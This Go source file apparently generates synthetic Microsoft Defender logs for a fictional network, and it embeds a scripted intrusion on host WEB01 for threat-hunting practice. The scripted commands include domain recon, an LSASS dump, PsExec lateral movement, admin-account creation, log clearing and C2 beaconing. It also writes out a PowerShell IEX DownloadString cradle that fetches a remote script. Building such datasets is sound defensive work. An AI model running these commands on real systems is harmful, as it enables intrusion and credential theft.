package workspace

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/hex"
	"math/rand/v2"
	"strings"

	"github.com/kqlkernel/kqlkernel/table"
)

// hashes gives a file a stable SHA256/SHA1/MD5 derived from its path (and a version).
func hashes(in interner, path string) (string, string, string) {
	p := strings.ToLower(path)
	s256 := sha256.Sum256([]byte("kqlkernel:" + p))
	s1 := sha1.Sum([]byte("kqlkernel:" + p))
	m := md5.Sum([]byte("kqlkernel:" + p))
	return in.s(hex.EncodeToString(s256[:])), in.s(hex.EncodeToString(s1[:])), in.s(hex.EncodeToString(m[:]))
}

func folderOf(path string) string {
	if i := strings.LastIndexAny(path, `\/`); i >= 0 {
		return path[:i]
	}
	return path
}

// mdeProc is a process as Defender sees it.
type mdeProc struct {
	path, cmd, account, domain, sid, upn string
	pid                                  int64
	integrity                            string
	created                              table.DateTime
}

func (w *world) deviceColumns(r row, h *host) {
	r.s("DeviceName", strings.ToLower(h.name))
	if h.domain != "CONTOSO" && h.role != "linux" {
		r.s("DeviceName", strings.ToLower(h.short))
	}
	r.s("DeviceId", h.deviceID)
	r.s("MachineGroup", map[bool]string{true: "Servers", false: "Workstations"}[h.role != "workstation"])
	r.s("SourceSystem", "")
	r.n64("ReportId", int64(1000+r.rng.IntN(90000)))
	r.s("AppGuardContainerId", "")
}

func (w *world) initiating(r row, p mdeProc) {
	s256, s1, m5 := hashes(r.in, p.path)
	r.s("InitiatingProcessFileName", strings.ToLower(baseName(p.path)))
	r.s("InitiatingProcessFolderPath", strings.ToLower(p.path))
	r.s("InitiatingProcessCommandLine", p.cmd)
	r.n64("InitiatingProcessId", p.pid)
	r.t("InitiatingProcessCreationTime", p.created)
	r.s("InitiatingProcessAccountName", p.account)
	r.s("InitiatingProcessAccountDomain", p.domain)
	r.s("InitiatingProcessAccountSid", p.sid)
	r.s("InitiatingProcessAccountUpn", p.upn)
	r.s("InitiatingProcessSHA256", s256)
	r.s("InitiatingProcessSHA1", s1)
	r.s("InitiatingProcessMD5", m5)
	if r.has("InitiatingProcessIntegrityLevel") {
		r.s("InitiatingProcessIntegrityLevel", p.integrity)
	}
	r.s("InitiatingProcessTokenElevation", "TokenElevationTypeDefault")
	r.s("InitiatingProcessVersionInfoCompanyName", "Microsoft Corporation")
	r.s("InitiatingProcessVersionInfoProductName", "Microsoft® Windows® Operating System")
	r.s("InitiatingProcessVersionInfoOriginalFileName", strings.ToLower(baseName(p.path)))
	r.s("InitiatingProcessParentFileName", "explorer.exe")
}

// randomProc picks a process running on h, as the catalogue describes.
func (w *world) randomProc(rng *rand.Rand, h *host, t table.DateTime) (proc, mdeProc) {
	for {
		p := processCatalog[rng.IntN(len(processCatalog))]
		if p.roles != "any" && p.roles != h.role && !(p.roles == "server" && h.role != "workstation") {
			continue
		}
		m := mdeProc{path: p.path, cmd: p.cmd, account: "system", domain: "nt authority", sid: "S-1-5-18", integrity: "System",
			pid: int64(4 * (64 + rng.IntN(8000))), created: t - table.DateTime(rng.Int64N(int64(table.Hour)))}
		if !p.system {
			people := w.people()
			u := people[rng.IntN(len(people))]
			m.account, m.domain, m.sid, m.upn, m.integrity = u.sam, "contoso", u.sid, u.upn, "Medium"
			m.path = strings.ReplaceAll(m.path, "%USER%", u.sam)
			m.cmd = strings.ReplaceAll(m.cmd, "%USER%", u.sam)
		}
		return p, m
	}
}

// attackCmd is one of the attacker's commands on WEB01.
type attackCmd struct {
	t                 table.DateTime
	path, cmd, parent string
	pid, ppid         int64
}

func (w *world) attackCommands() []attackCmd {
	tl := w.timeline()
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	return []attackCmd{
		{tl.recon, sys32 + "cmd.exe", `"cmd.exe"`, `C:\Windows\explorer.exe`, 7244, 6668},
		{tl.recon + 40*table.DateTime(table.Second), sys32 + "whoami.exe", `whoami  /all`, sys32 + "cmd.exe", 8788, 7244},
		{tl.recon + 95*table.DateTime(table.Second), sys32 + "net.exe", `net  group "Domain Admins" /domain`, sys32 + "cmd.exe", 7944, 7244},
		{tl.recon + 150*table.DateTime(table.Second), sys32 + "nltest.exe", `nltest  /dclist:contoso.com`, sys32 + "cmd.exe", 2964, 7244},
		{tl.encodedPS, ps, encodedPSCommand, sys32 + "cmd.exe", 7472, 7244},
		{tl.encodedPS + 75*table.DateTime(table.Second), ps, reverseShellCommand, ps, 7792, 7472},
		{tl.lsass, sys32 + "rundll32.exe", lsassDumpCommand, ps, 9232, 7472},
		{tl.lateral - 3*table.DateTime(table.Minute), ps, downloadCommand, sys32 + "cmd.exe", 11028, 7244},
		{tl.newAdmin, sys32 + "net.exe", newUserCommand, sys32 + "cmd.exe", 3932, 7244},
		{tl.newAdmin + 30*table.DateTime(table.Second), sys32 + "net.exe", addGroupCommand, sys32 + "cmd.exe", 7748, 7244},
		{tl.lateral - 30*table.DateTime(table.Second), `C:\Users\alice.wong\AppData\Local\Temp\PsExec64.exe`, `PsExec64.exe \\FS01 -accepteula -s cmd.exe`, sys32 + "cmd.exe", 11276, 7244},
		{tl.logCleared, sys32 + "wevtutil.exe", clearLogCommand, ps, 10892, 7472},
	}
}

// attackProcs are the attacker's commands on WEB01, as Defender records them.
func (w *world) attackProcs() []stamped {
	v := w.attacker.victim
	web := w.hostNamed("WEB01")
	cmds := w.attackCommands()
	var out []stamped
	for _, x := range cmds {
		out = append(out, stamped{x.t, func(r row, t table.DateTime) {
			w.deviceColumns(r, web)
			r.s("ActionType", "ProcessCreated")
			s256, s1, m5 := hashes(r.in, x.path)
			r.s("FileName", strings.ToLower(baseName(x.path)))
			r.s("FolderPath", x.path)
			r.s("ProcessCommandLine", x.cmd)
			r.n64("ProcessId", x.pid)
			r.t("ProcessCreationTime", t)
			r.s("ProcessIntegrityLevel", "High")
			r.s("ProcessTokenElevation", "TokenElevationTypeFull")
			r.s("SHA256", s256)
			r.s("SHA1", s1)
			r.s("MD5", m5)
			r.s("AccountName", v.sam)
			r.s("AccountDomain", "contoso")
			r.s("AccountSid", v.sid)
			r.s("AccountUpn", v.upn)
			r.s("AccountObjectId", v.objectID)
			r.n64("LogonId", 45606129)
			w.initiating(r, mdeProc{path: x.parent, cmd: `"` + baseName(x.parent) + `"`, account: v.sam, domain: "contoso", sid: v.sid, upn: v.upn, pid: x.ppid, integrity: "High", created: t - table.DateTime(table.Minute)})
		}})
	}
	return out
}

func genDeviceProcessEvents(w *world, schema table.Schema, n int, _ float64) (*builder, error) {
	return timedTable(w, "DeviceProcessEvents", schema, n, machine, func(r row, t table.DateTime) {
		h := w.windows[r.rng.IntN(len(w.windows))]
		w.deviceColumns(r, h)
		p, m := w.randomProc(r.rng, h, t)
		r.s("ActionType", "ProcessCreated")
		s256, s1, m5 := hashes(r.in, m.path)
		r.s("FileName", strings.ToLower(p.name()))
		r.s("FolderPath", m.path)
		r.s("ProcessCommandLine", m.cmd)
		r.n64("ProcessId", int64(4*(64+r.rng.IntN(8000))))
		r.t("ProcessCreationTime", t)
		r.s("ProcessIntegrityLevel", m.integrity)
		r.s("ProcessTokenElevation", "TokenElevationTypeDefault")
		r.s("SHA256", s256)
		r.s("SHA1", s1)
		r.s("MD5", m5)
		r.n64("FileSize", int64(20000+len(m.path)*9173))
		r.s("AccountName", m.account)
		r.s("AccountDomain", m.domain)
		r.s("AccountSid", m.sid)
		r.s("AccountUpn", m.upn)
		r.s("ProcessVersionInfoCompanyName", "Microsoft Corporation")
		parent := mdeProc{path: p.parent, cmd: `"` + baseName(p.parent) + `"`, account: m.account, domain: m.domain, sid: m.sid, upn: m.upn, pid: int64(4 * (64 + r.rng.IntN(8000))), integrity: m.integrity, created: m.created}
		w.initiating(r, parent)
	}, w.attackProcs())
}

var remoteServices = []struct {
	url, ip string
	port    int64
}{
	{"login.microsoftonline.com", "20.190.151.7", 443}, {"outlook.office365.com", "52.96.165.130", 443},
	{"teams.microsoft.com", "52.113.194.132", 443}, {"contoso.sharepoint.com", "13.107.136.9", 443},
	{"www.google.com", "142.250.64.100", 443}, {"update.googleapis.com", "142.250.72.35", 443},
	{"settings-win.data.microsoft.com", "20.42.73.26", 443}, {"wdcp.microsoft.com", "40.126.0.1", 443},
	{"ctldl.windowsupdate.com", "93.184.221.240", 80}, {"github.com", "140.82.112.3", 443},
}

func genDeviceNetworkEvents(w *world, schema table.Schema, n int, _ float64) (*builder, error) {
	tl := w.timeline()
	web := w.hostNamed("WEB01")
	var story []stamped
	// Beaconing to the C2 every five minutes or so until it is cut off.
	for t := tl.c2Start; t < tl.c2End; t += table.DateTime(5*table.Minute) + table.DateTime(int64(t)%int64(40*table.Second)) {
		story = append(story, stamped{t, func(r row, t table.DateTime) {
			w.deviceColumns(r, web)
			r.s("ActionType", "ConnectionSuccess")
			r.s("RemoteIP", w.attacker.c2IP)
			r.n32("RemotePort", 443)
			r.s("RemoteUrl", w.attacker.c2Domain)
			r.s("RemoteIPType", "Public")
			r.s("LocalIP", web.ip)
			r.s("LocalIPType", "Private")
			r.n32("LocalPort", int64(49152+r.rng.IntN(16000)))
			r.s("Protocol", "Tcp")
			v := w.attacker.victim
			w.initiating(r, mdeProc{path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, cmd: encodedPSCommand, account: v.sam, domain: "contoso", sid: v.sid, upn: v.upn, pid: 7472, integrity: "High", created: tl.encodedPS})
		}})
	}
	return timedTable(w, "DeviceNetworkEvents", schema, n, machine, func(r row, t table.DateTime) {
		h := w.windows[r.rng.IntN(len(w.windows))]
		w.deviceColumns(r, h)
		_, m := w.randomProc(r.rng, h, t)
		svc := remoteServices[r.rng.IntN(len(remoteServices))]
		action := "ConnectionSuccess"
		if r.rng.IntN(30) == 0 {
			action = "ConnectionFailed"
		}
		r.s("ActionType", action)
		r.s("RemoteIP", svc.ip)
		r.n32("RemotePort", svc.port)
		r.s("RemoteUrl", svc.url)
		r.s("RemoteIPType", "Public")
		r.s("LocalIP", h.ip)
		r.s("LocalIPType", "Private")
		r.n32("LocalPort", int64(49152+r.rng.IntN(16000)))
		r.s("Protocol", "Tcp")
		w.initiating(r, m)
	}, story)
}

var userFiles = []string{`Q3 forecast.xlsx`, `Budget 2024.xlsx`, `design.docx`, `notes.txt`, `invoice_8812.pdf`, `presentation.pptx`, `report.docx`, `setup.exe`, `image001.png`}

func genDeviceFileEvents(w *world, schema table.Schema, n int, _ float64) (*builder, error) {
	tl := w.timeline()
	web := w.hostNamed("WEB01")
	v := w.attacker.victim
	story := []stamped{
		{tl.lsass + 2*table.DateTime(table.Second), func(r row, t table.DateTime) {
			w.deviceColumns(r, web)
			r.s("ActionType", "FileCreated")
			r.s("FileName", "debug.dmp")
			r.s("FolderPath", `C:\Windows\Temp\debug.dmp`)
			r.n64("FileSize", 48211968)
			w.initiating(r, mdeProc{path: sys32 + "rundll32.exe", cmd: lsassDumpCommand, account: v.sam, domain: "contoso", sid: v.sid, upn: v.upn, pid: 9232, integrity: "High", created: tl.lsass})
		}},
		{tl.encodedPS + table.DateTime(20*table.Second), func(r row, t table.DateTime) {
			w.deviceColumns(r, web)
			r.s("ActionType", "FileCreated")
			r.s("FileName", "PsExec64.exe")
			r.s("FolderPath", `C:\Users\alice.wong\AppData\Local\Temp\PsExec64.exe`)
			r.s("FileOriginUrl", "https://"+w.attacker.c2Domain+"/t/PsExec64.exe")
			r.s("FileOriginIP", w.attacker.c2IP)
			r.n64("FileSize", 833472)
			s256, s1, m5 := hashes(r.in, "PsExec64.exe")
			r.s("SHA256", s256)
			r.s("SHA1", s1)
			r.s("MD5", m5)
			w.initiating(r, mdeProc{path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, cmd: encodedPSCommand, account: v.sam, domain: "contoso", sid: v.sid, upn: v.upn, pid: 7472, integrity: "High", created: tl.encodedPS})
		}},
	}
	return timedTable(w, "DeviceFileEvents", schema, n, business, func(r row, t table.DateTime) {
		h := w.windows[r.rng.IntN(len(w.windows))]
		w.deviceColumns(r, h)
		_, m := w.randomProc(r.rng, h, t)
		f := one(r.rng, userFiles)
		user := m.account
		if user == "system" {
			user = "Public"
		}
		folder := `C:\Users\` + user + `\Documents\` + f
		if r.rng.IntN(4) == 0 {
			folder = `C:\Users\` + user + `\Downloads\` + f
		}
		action := one(r.rng, []string{"FileCreated", "FileModified", "FileModified", "FileRenamed", "FileDeleted"})
		r.s("ActionType", action)
		r.s("FileName", f)
		r.s("FolderPath", r.in.s(folder))
		r.n64("FileSize", int64(1000+r.rng.IntN(5000000)))
		s256, s1, m5 := hashes(r.in, f)
		r.s("SHA256", s256)
		r.s("SHA1", s1)
		r.s("MD5", m5)
		w.initiating(r, m)
	}, story)
}

var deviceEventTypes = []string{"AntivirusDefinitionsUpdated", "ScheduledTaskCreated", "PowerShellCommand", "ProcessCreatedUsingWmiQuery",
	"SmartScreenUrlWarning", "UsbDriveMounted", "ExploitGuardNetworkProtectionAudited", "NamedPipeEvent", "DnsQueryResponse", "LdapSearch"}

func genDeviceEvents(w *world, schema table.Schema, n int, _ float64) (*builder, error) {
	tl := w.timeline()
	web := w.hostNamed("WEB01")
	v := w.attacker.victim
	story := []stamped{
		{tl.lsass + table.DateTime(table.Second), func(r row, t table.DateTime) {
			w.deviceColumns(r, web)
			r.s("ActionType", "OpenProcessApiCall")
			r.s("FileName", "lsass.exe")
			r.s("FolderPath", `C:\Windows\System32\lsass.exe`)
			r.n64("ProcessId", 684)
			r.d("AdditionalFields", map[string]any{"DesiredAccess": int64(0x1fffff)})
			w.initiating(r, mdeProc{path: sys32 + "rundll32.exe", cmd: lsassDumpCommand, account: v.sam, domain: "contoso", sid: v.sid, upn: v.upn, pid: 9232, created: tl.lsass})
		}},
		{tl.encodedPS + table.DateTime(2*table.Second), func(r row, t table.DateTime) {
			w.deviceColumns(r, web)
			r.s("ActionType", "PowerShellCommand")
			r.d("AdditionalFields", map[string]any{"Command": "IEX (New-Object Net.WebClient).DownloadString('https://cdn-update-check.net/a.ps1')"})
			w.initiating(r, mdeProc{path: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, cmd: encodedPSCommand, account: v.sam, domain: "contoso", sid: v.sid, upn: v.upn, pid: 7472, created: tl.encodedPS})
		}},
	}
	return timedTable(w, "DeviceEvents", schema, n, machine, func(r row, t table.DateTime) {
		h := w.windows[r.rng.IntN(len(w.windows))]
		w.deviceColumns(r, h)
		_, m := w.randomProc(r.rng, h, t)
		a := one(r.rng, deviceEventTypes)
		r.s("ActionType", a)
		switch a {
		case "PowerShellCommand":
			r.d("AdditionalFields", map[string]any{"Command": one(r.rng, []string{"Get-WmiObject", "Import-Module", "Get-Process", "Set-StrictMode"})})
		case "DnsQueryResponse":
			svc := remoteServices[r.rng.IntN(len(remoteServices))]
			r.s("RemoteUrl", svc.url)
			r.d("AdditionalFields", map[string]any{"DnsQueryString": svc.url, "DnsQueryResult": []any{map[string]any{"DnsQueryType": "A", "Address": svc.ip}}})
		case "ScheduledTaskCreated":
			r.d("AdditionalFields", map[string]any{"TaskName": `\Microsoft\Windows\UpdateOrchestrator\Schedule Scan`})
		default:
			r.d("AdditionalFields", map[string]any{})
		}
		w.initiating(r, m)
	}, story)
}
